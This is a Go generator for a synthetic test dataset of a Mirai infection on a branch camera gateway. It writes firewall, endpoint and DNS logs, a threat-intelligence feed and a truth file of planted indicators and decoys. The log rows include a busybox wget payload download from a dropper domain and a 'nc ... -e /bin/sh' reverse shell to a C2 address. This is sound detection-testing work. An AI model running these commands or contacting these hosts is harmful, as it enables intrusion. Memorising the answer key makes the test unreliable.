package gen

import (
	_ "embed"
	"fmt"
	"io"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
)

//go:generate go run .. gen -mirai ../../testdata/mirai

// The two texts of the Mirai example that are written by hand.
var (
	//go:embed mirai-rule.md
	miraiRule string
	//go:embed mirai-exclusions.yaml
	miraiExclusions string
)

const (
	c2      = "176.65.139.7"
	c2Port  = c2 + ":3778"
	dropper = "tvt.miraibotnet.su"
	vault   = "203.0.113.80" // rented storage that a feed lists since a neighbour on it was hacked
)

// miraiFeed is the example's feed, in the order of the export: newest first.
var miraiFeed = [][]string{
	{"2026-05-21 06:12:40", "1812377", vault, "ip", "payload_delivery", "elf.bashlite", "None", "Bashlite", "2026-05-21 05:58:02", "50", "True", "None", "Bashlite,shared-host", "0", "generated"},
	{"2026-05-20 19:40:11", "1812102", "198.51.100.77:23", "ip:port", "botnet_cc", "elf.bashlite", "Gafgyt,Lizkebab", "Bashlite", "", "75", "False", "None", "Bashlite", "0", "generated"},
	{"2026-05-20 13:04:25", "1811983", "http://176.65.139.7/bins/mirai.arm7", "url", "payload_delivery", "elf.mirai", "Katana", "Mirai", "", "100", "False", "None", "elf,Mirai", "0", "generated"},
	{"2026-05-20 13:04:24", "1811982", dropper, "domain", "payload_delivery", "elf.mirai", "Katana", "Mirai", "2026-05-21 04:10:00", "100", "False", "None", "Mirai", "0", "generated"},
	{"2026-05-20 11:51:09", "1811960", c2Port, "ip:port", "botnet_cc", "elf.mirai", "Katana", "Mirai", "2026-05-21 03:55:31", "80", "False", "None", "Mirai", "0", "generated"},
	{"2026-05-20 11:30:00", "1811955", "9f2c1d0b7a6e5f4c3b2a1908f7e6d5c4b3a29180706f5e4d3c2b1a0998877665", "sha256_hash", "payload", "elf.mirai", "Katana", "Mirai", "", "100", "False", "None", "Mirai", "0", "generated"},
	{"2026-05-19 22:15:37", "1811640", "login-cam-update.example", "domain", "payload_delivery", "elf.bashlite", "None", "Bashlite", "", "75", "False", "None", "Bashlite", "0", "generated"},
}

// WriteMirai writes a small example: an afternoon and a morning at a site
// whose camera gateway has caught Mirai, as exports of all three tables in
// three formats, with a feed, a rule page, exclusion rules and the truth.
func WriteMirai(dir string) error {
	for _, f := range []struct{ name, text string }{
		{"rule.md", miraiRule}, {"exclusions.yaml", miraiExclusions}, {"threatfox.csv", miraiThreatFox()},
	} {
		if err := os.MkdirAll(dir, 0o777); err != nil {
			return err
		}
		if err := os.WriteFile(filepath.Join(dir, f.name), []byte(f.text), 0o666); err != nil {
			return err
		}
	}
	truth := []byte(TruthHeader)
	for _, format := range []string{"csv", "jsonl", "parquet"} {
		if err := os.MkdirAll(filepath.Join(dir, format), 0o777); err != nil {
			return err
		}
		for _, t := range Tables {
			name := format + "/" + t.Name + "." + format
			rows := Mirai(t)
			err := create(filepath.Join(dir, name), func(w io.Writer) error {
				out, err := NewWriter(w, t, format)
				if err != nil {
					return err
				}
				for _, r := range rows {
					if err := out.Write(r); err != nil {
						return err
					}
				}
				return out.Close()
			})
			if err != nil {
				return fmt.Errorf("%s: %w", name, err)
			}
			for _, r := range rows {
				truth = AppendTruth(truth, name, r)
			}
		}
	}
	return os.WriteFile(filepath.Join(dir, "truth.tsv"), truth, 0o666)
}

func miraiThreatFox() string {
	var b strings.Builder
	b.WriteString(threatFoxHead)
	for _, row := range miraiFeed {
		for i, cell := range row {
			if i > 0 {
				b.WriteString(", ")
			}
			b.WriteString(`"` + cell + `"`)
		}
		b.WriteString("\r\n")
	}
	b.WriteString(threatFoxFoot + strconv.Itoa(len(miraiFeed)) + "\r\n")
	return b.String()
}

// An event is one row of the story: its time, the cells that differ from the
// table's usual ones, and what is to be found in it.
type event struct {
	time  string
	cells map[string]string
	truth []Planted
}

type cells = map[string]string

func is(column, value, indicator, class string) Planted {
	return Planted{column, value, indicator, class, Yes}
}

func isNot(column, value, indicator, class string) Planted {
	return Planted{column, value, indicator, class, No}
}

// Mirai returns the rows of one table of the example, in order of time.
func Mirai(t *Table) []*Row {
	events := map[*Table][]event{CommonSecurityLog: miraiFirewall, DeviceNetworkEvents: miraiEndpoints, DnsEvents: miraiLookups}[t]
	when := map[*Table]string{CommonSecurityLog: "TimeGenerated", DeviceNetworkEvents: "Timestamp", DnsEvents: "TimeGenerated"}[t]
	var rows []*Row
	for _, e := range events {
		c := maps.Clone(miraiUsual[t])
		maps.Copy(c, e.cells)
		c[when] = e.time
		r := RowOf(t, 0, c)
		r.Truth = e.truth
		rows = append(rows, r)
	}
	// Innocent traffic between the events, from the same rows that benchmarks
	// are made of, spread over the two days.
	i := t.Column(when)
	at := RowOf(t, 0, cells{when: "2026-05-20T00:31:07.413Z"}).Ticks(i)
	for r := range Rows(t, 14, Options{Seed: 2026}) {
		r = r.Clone()
		shift := at + r.N*3*3600*ticksPerSecond - r.Ticks(i)
		for k, c := range t.Columns {
			if c.Type == Time && len(r.Cell(k)) != 0 {
				r.time(k, r.Ticks(k)+shift)
			}
		}
		rows = append(rows, r)
	}
	slices.SortStableFunc(rows, func(a, b *Row) int { return int(a.Ticks(i)/1e4 - b.Ticks(i)/1e4) })
	for n, r := range rows {
		r.N = int64(n + 1)
	}
	return rows
}

var miraiUsual = map[*Table]cells{
	CommonSecurityLog: {
		"TenantId": tenant, "SourceSystem": "OpsManager", "Type": "CommonSecurityLog", "_ResourceId": resource,
		"DeviceVendor": "Fortinet", "DeviceProduct": "Fortigate", "DeviceVersion": "v7.4.7", "DeviceEventClassID": "00013", "LogSeverity": "3",
		"DeviceAction": "accept", "SimplifiedDeviceAction": "Accept", "Computer": "10.0.0.1", "DeviceName": "FGT-BRANCH",
		"Activity": "traffic:forward close", "Protocol": "6", "DeviceInboundInterface": "internal3", "DeviceOutboundInterface": "wan1",
	},
	DeviceNetworkEvents: {
		"DeviceId": "5d1b0c7e9a2f4836b1d07c52e94fa8063bd21e7f", "DeviceName": "cam-gw.branch.example", "LocalIP": "10.0.0.5", "Protocol": "Tcp",
		"LocalIPType": "Private", "RemoteIPType": "Public", "ActionType": "ConnectionSuccess", "InitiatingProcessFileName": "busybox",
		"InitiatingProcessFolderPath": "/tmp/busybox", "InitiatingProcessId": "4127", "InitiatingProcessParentFileName": "sh", "InitiatingProcessParentId": "4119",
		"InitiatingProcessAccountName": "root", "InitiatingProcessSHA1": "0c3f6a41e2d95b7788a1f0e4c6d2b3a495867f10", "MachineGroup": "cameras",
	},
	DnsEvents: {
		"TenantId": tenant, "SourceSystem": "OpsManager", "Type": "DnsEvents", "_ResourceId": resource, "Computer": "dns1.branch.example",
		"EventId": "257", "SubType": "LookupQuery", "TaskCategory": "LOOK_UP", "QueryType": "A", "Result": "Success", "ResultCode": "0",
	},
}

func blocked(more cells) cells {
	c := cells{"DeviceAction": "deny", "SimplifiedDeviceAction": "Deny", "DeviceEventClassID": "00014", "Activity": "traffic:forward deny"}
	maps.Copy(c, more)
	return c
}

func web(action string, more cells) cells {
	c := cells{
		"DeviceVendor": "Zscaler", "DeviceProduct": "NSSWeblog", "DeviceVersion": "5.7", "Computer": "nss-01", "DeviceName": "", "DeviceInboundInterface": "",
		"DeviceOutboundInterface": "", "Protocol": "TCP", "DeviceAction": action, "SimplifiedDeviceAction": map[string]string{"Allowed": "Allow", "Blocked": "Deny"}[action],
		"DeviceEventClassID": action, "Activity": action, "RequestMethod": "GET", "ApplicationProtocol": "HTTP",
	}
	maps.Copy(c, more)
	return c
}

var miraiFirewall = []event{
	{"2026-05-20T02:07:03.114Z", cells{"SourceIP": "10.0.0.40", "SourcePort": "50122", "SourceHostName": "backup-01.branch.example", "DestinationIP": vault, "DestinationPort": "873", "SentBytes": "184467440", "ReceivedBytes": "20411"},
		[]Planted{is("DestinationIP", vault, vault, "ip")}},
	{"2026-05-20T12:58:20.207Z", web("Allowed", cells{"SourceIP": "10.0.3.17", "SourcePort": "51514", "SourceHostName": "lt-0117.branch.example", "SourceUserName": "user0117@branch.example",
		"DestinationIP": c2, "DestinationPort": "80", "DestinationHostName": dropper, "RequestURL": dropper + "/bins/mirai.arm7", "RequestClientApplication": "Wget/1.21.4", "ReceivedBytes": "98304", "SentBytes": "212"}),
		[]Planted{is("DestinationIP", c2, c2Port, "ip-only"), is("DestinationHostName", dropper, dropper, "domain"), is("RequestURL", dropper+"/bins/mirai.arm7", dropper, "domain")}},
	{"2026-05-20T13:21:45.530Z", cells{"SourceIP": "10.0.0.5", "SourcePort": "40112", "SourceHostName": "cam-gw.branch.example", "DestinationIP": c2, "DestinationPort": "3778", "SentBytes": "1290", "ReceivedBytes": "774",
		"AdditionalExtensions": `cat=traffic:forward;FTNTFGTpolicyname="cameras, out";FTNTFGTduration=61`},
		[]Planted{is("DestinationIP", c2, c2Port, "ip:port")}},
	{"2026-05-20T14:02:11.801Z", cells{"SourceIP": "10.0.0.40", "SourcePort": "50377", "SourceHostName": "backup-01.branch.example", "DestinationIP": vault, "DestinationPort": "22", "SentBytes": "3120", "ReceivedBytes": "2988"},
		[]Planted{is("DestinationIP", vault, vault, "ip")}},
	{"2026-05-20T17:48:02.045Z", web("Blocked", cells{"SourceIP": "10.0.3.17", "SourcePort": "51820", "SourceHostName": "lt-0117.branch.example", "SourceUserName": "user0117@branch.example",
		"DestinationHostName": "TVT.MiraiBotNet.SU", "RequestURL": "http://TVT.MiraiBotNet.SU:8080/bins/x.sh?a=1,2", "DestinationPort": "8080"}),
		[]Planted{is("DestinationHostName", "TVT.MiraiBotNet.SU", dropper, "domain"), is("RequestURL", "http://TVT.MiraiBotNet.SU:8080/bins/x.sh?a=1,2", dropper, "domain")}},
	{"2026-05-20T18:03:40.000Z", web("Allowed", cells{"SourceIP": "10.0.3.17", "SourcePort": "51904", "SourceUserName": "user0117@branch.example", "DestinationIP": "104.16.20.5", "DestinationPort": "443",
		"RequestURL": "https://www.bluebank.example/scan?u=" + dropper, "DestinationHostName": "www.bluebank.example"}),
		[]Planted{isNot("RequestURL", "https://www.bluebank.example/scan?u="+dropper, dropper, "term")}},
	{"2026-05-21T06:40:10.662Z", cells{"SourceIP": "10.0.0.5", "SourcePort": "40388", "SourceHostName": "cam-gw.branch.example", "DestinationIP": "::ffff:" + c2, "DestinationPort": "3778", "SentBytes": "1302", "ReceivedBytes": "806"},
		[]Planted{is("DestinationIP", "::ffff:"+c2, c2Port, "ip:port")}},
	{"2026-05-21T08:14:03.123Z", cells{"SourceIP": "10.0.0.5", "SourcePort": "40519", "SourceHostName": "cam-gw.branch.example", "DestinationIP": c2, "DestinationPort": "3778", "SentBytes": "48112", "ReceivedBytes": "5210"},
		[]Planted{is("DestinationIP", c2, c2Port, "ip:port")}},
	{"2026-05-21T08:15:30.918Z", cells{"SourceIP": c2, "SourcePort": "44120", "DestinationIP": "198.51.100.4", "DestinationPort": "23", "DeviceInboundInterface": "wan1", "DeviceOutboundInterface": "",
		"DeviceAction": "deny", "SimplifiedDeviceAction": "Deny", "DeviceEventClassID": "00014", "Activity": "traffic:local deny",
		"Message": "Telnet probe from outside, policy \"default deny\",\nseen 14 times"},
		[]Planted{is("SourceIP", c2, c2Port, "ip-only")}},
	{"2026-05-21T09:05:12.440Z", blocked(cells{"SourceIP": "10.0.0.5", "SourcePort": "40871", "SourceHostName": "cam-gw.branch.example", "DestinationIP": c2, "DestinationPort": "3778"}),
		[]Planted{is("DestinationIP", c2, c2Port, "ip:port")}},
	{"2026-05-21T09:05:42.447Z", blocked(cells{"SourceIP": "10.0.0.5", "SourcePort": "40872", "SourceHostName": "cam-gw.branch.example", "DestinationIP": c2, "DestinationPort": "3778"}),
		[]Planted{is("DestinationIP", c2, c2Port, "ip:port")}},
	{"2026-05-21T09:06:01.002Z", blocked(cells{"SourceIP": "10.0.0.23", "SourcePort": "33514", "DestinationIP": c2, "DestinationPort": "23"}),
		[]Planted{is("DestinationIP", c2, c2Port, "ip-only")}},
	{"2026-05-21T09:06:33.700Z", cells{"SourceIP": "10.0.3.44", "SourcePort": "52011", "DestinationIP": "176.65.139.70", "DestinationPort": "3778"},
		[]Planted{isNot("DestinationIP", "176.65.139.70", c2Port, "")}},
	{"2026-05-21T09:08:15.250Z", web("Allowed", cells{"SourceIP": "10.0.3.44", "SourcePort": "52077", "DestinationIP": "104.16.20.5", "DestinationPort": "443", "DestinationHostName": dropper + ".bluebank.example",
		"RequestURL": "https://" + dropper + ".bluebank.example/status"}),
		[]Planted{isNot("DestinationHostName", dropper+".bluebank.example", dropper, "term"), isNot("RequestURL", "https://"+dropper+".bluebank.example/status", dropper, "term")}},
}

func backup(cmd, user, port string) cells {
	return cells{
		"DeviceName": "backup-01.branch.example", "DeviceId": "a3f1770d52be48c9910e6b04d7c8e25f6a90b3d1", "LocalIP": "10.0.0.40", "RemoteIP": vault, "RemotePort": port, "MachineGroup": "servers",
		"InitiatingProcessFileName": "nc.openbsd", "InitiatingProcessFolderPath": "/usr/bin/nc.openbsd", "InitiatingProcessCommandLine": cmd, "InitiatingProcessAccountName": user,
		"InitiatingProcessParentFileName": "bash", "InitiatingProcessSHA1": "71f0a2c4d6e8091b3d5f7a9cbed0f21436587a9b",
	}
}

func sensor(more cells) cells {
	c := cells{
		"Protocol": "", "LocalIPType": "", "RemoteIPType": "", "InitiatingProcessFileName": "", "InitiatingProcessFolderPath": "", "InitiatingProcessId": "0",
		"InitiatingProcessParentFileName": "", "InitiatingProcessParentId": "", "InitiatingProcessAccountName": "", "InitiatingProcessSHA1": "",
		"DeviceName": "lt-0117.branch.example", "DeviceId": "e0b9c7724d6f51a3880c1e2d93f4b567a81c0d2e", "LocalIP": "10.0.3.17", "MachineGroup": "clients",
	}
	maps.Copy(c, more)
	return c
}

var miraiEndpoints = []event{
	{"2026-05-20T02:05:00.5501234Z", backup("nc -z "+vault+" 873", "backup", "873"),
		[]Planted{is("RemoteIP", vault, vault, "ip")}},
	{"2026-05-20T12:57:58.0412977Z", sensor(cells{"ActionType": "DnsConnectionInspected", "RemoteIP": "10.0.0.53", "RemotePort": "53", "LocalPort": "61646",
		"AdditionalFields": `{"direction":"Out","trans_id":"18563","query":"` + dropper + `","qclass":"1","qclass_name":"C_INTERNET","qtype":"1","qtype_name":"A","rcode":"0","rcode_name":"NOERROR","AA":"false","TC":"false","RD":"true","RA":"true","answers":"[\"` + c2 + `\"]","TTLs":"[60.0]","rejected":"false"}`}),
		[]Planted{is("AdditionalFields.query", dropper, dropper, "domain"), is("AdditionalFields.answers", c2, c2Port, "ip-only")}},
	{"2026-05-20T13:20:02.7718Z", cells{"RemoteIP": c2, "RemotePort": "80", "RemoteUrl": dropper, "LocalPort": "40098", "InitiatingProcessCommandLine": "busybox wget http://" + dropper + "/bins/mirai.arm7 -O /tmp/.m",
		"InitiatingProcessCreationTime": "2026-05-20T13:20:02.512Z"},
		[]Planted{is("RemoteIP", c2, c2Port, "ip-only"), is("RemoteUrl", dropper, dropper, "domain")}},
	{"2026-05-20T13:21:45.3096641Z", cells{"RemoteIP": "::ffff:" + c2, "RemoteIPType": "FourToSixMapping", "RemotePort": "3778", "LocalPort": "40112", "InitiatingProcessCommandLine": "busybox nc " + c2 + " 3778 -e /bin/sh",
		"InitiatingProcessCreationTime": "2026-05-20T13:21:45.2Z", "AdditionalFields": `{"InitiatingProcessPosixEffectiveUser":{"Name":"root","PosixUserId":0}}`},
		[]Planted{is("RemoteIP", "::ffff:"+c2, c2Port, "ip:port")}},
	{"2026-05-20T14:02:11.6Z", backup("nc -v "+vault+" 22", "user0009", "22"),
		[]Planted{is("RemoteIP", vault, vault, "ip")}},
	{"2026-05-21T02:05:00.4873301Z", backup("nc -z "+vault+" 873", "backup", "873"),
		[]Planted{is("RemoteIP", vault, vault, "ip")}},
	{"2026-05-21T08:14:03.1234567Z", cells{"RemoteIP": "::ffff:" + c2, "RemoteIPType": "FourToSixMapping", "RemotePort": "3778", "LocalPort": "40519", "InitiatingProcessCommandLine": "busybox nc " + c2 + " 3778 -e /bin/sh"},
		[]Planted{is("RemoteIP", "::ffff:"+c2, c2Port, "ip:port")}},
	{"2026-05-21T08:40:17.25Z", sensor(cells{"ActionType": "ConnectionAttempt", "RemoteIP": c2, "RemotePort": "23", "LocalIP": "10.0.0.23", "LocalPort": "33514", "Protocol": "Tcp"}),
		[]Planted{is("RemoteIP", c2, c2Port, "ip-only")}},
	{"2026-05-21T09:05:12.4396055Z", cells{"ActionType": "ConnectionFailed", "RemoteIP": c2, "RemotePort": "3778", "LocalPort": "40871", "InitiatingProcessCommandLine": "busybox nc " + c2 + " 3778 -e /bin/sh"},
		[]Planted{is("RemoteIP", c2, c2Port, "ip:port")}},
	{"2026-05-21T09:10:44.9Z", sensor(cells{"ActionType": "ConnectionSuccess", "RemoteIP": "176.65.139.70", "RemotePort": "443", "RemoteUrl": "https://not" + dropper + "/", "LocalPort": "52011", "Protocol": "Tcp", "InitiatingProcessFileName": "msedge.exe", "InitiatingProcessAccountName": "user0117"}),
		[]Planted{isNot("RemoteIP", "176.65.139.70", c2Port, ""), isNot("RemoteUrl", "https://not"+dropper+"/", dropper, "")}},
}

func query(client, name, answer string, more cells) cells {
	c := cells{"ClientIP": client, "Name": name, "IPAddresses": answer}
	maps.Copy(c, more)
	return c
}

var miraiLookups = []event{
	{"2026-05-20T12:57:58.038Z", query("10.0.3.17", dropper, c2, nil),
		[]Planted{is("Name", dropper, dropper, "domain"), is("IPAddresses", c2, c2Port, "ip-only")}},
	{"2026-05-20T12:57:58.071Z", query("10.0.3.17", dropper, "", cells{"QueryType": "AAAA"}),
		[]Planted{is("Name", dropper, dropper, "domain")}},
	{"2026-05-20T13:20:02.655Z", query("10.0.0.5", dropper+".", c2+", 203.0.113.9", nil),
		[]Planted{is("Name", dropper+".", dropper, "domain"), is("IPAddresses", c2, c2Port, "ip-only")}},
	{"2026-05-20T17:48:01.930Z", query("10.0.3.17", "TVT.MiraiBotNet.SU", c2, nil),
		[]Planted{is("Name", "TVT.MiraiBotNet.SU", dropper, "domain"), is("IPAddresses", c2, c2Port, "ip-only")}},
	{"2026-05-20T21:30:19.004Z", query("10.0.3.17", "x7."+dropper, "", cells{"ResultCode": "3", "Result": "NXDOMAIN"}),
		[]Planted{is("Name", "x7."+dropper, dropper, "subdomain")}},
	{"2026-05-21T08:13:59.318Z", query("10.0.0.5", "img.cdn-store.example", "104.16.7.7, ::ffff:"+c2, nil),
		[]Planted{is("IPAddresses", "::ffff:"+c2, c2Port, "ip-only")}},
	{"2026-05-21T09:04:40.500Z", query("10.0.0.5", dropper, "", cells{"ResultCode": "5", "Result": "REFUSED"}),
		[]Planted{is("Name", dropper, dropper, "domain")}},
	{"2026-05-21T09:20:00.000Z", query("10.0.3.44", dropper+".bluebank.example", "104.16.20.5", nil),
		[]Planted{isNot("Name", dropper+".bluebank.example", dropper, "term")}},
	{"2026-05-21T09:20:07.120Z", query("10.0.3.44", "my"+dropper, "", cells{"ResultCode": "3", "Result": "NXDOMAIN"}),
		[]Planted{isNot("Name", "my"+dropper, dropper, "")}},
	{"2026-05-21T09:20:09.441Z", query("10.0.3.44", "miraibotnet.su", "", cells{"ResultCode": "3", "Result": "NXDOMAIN"}),
		[]Planted{isNot("Name", "miraibotnet.su", dropper, "")}},
	{"2026-05-21T09:20:11.903Z", query("10.0.3.44", "a-"+dropper, "", cells{"ResultCode": "3", "Result": "NXDOMAIN"}),
		[]Planted{isNot("Name", "a-"+dropper, dropper, "term")}},
}
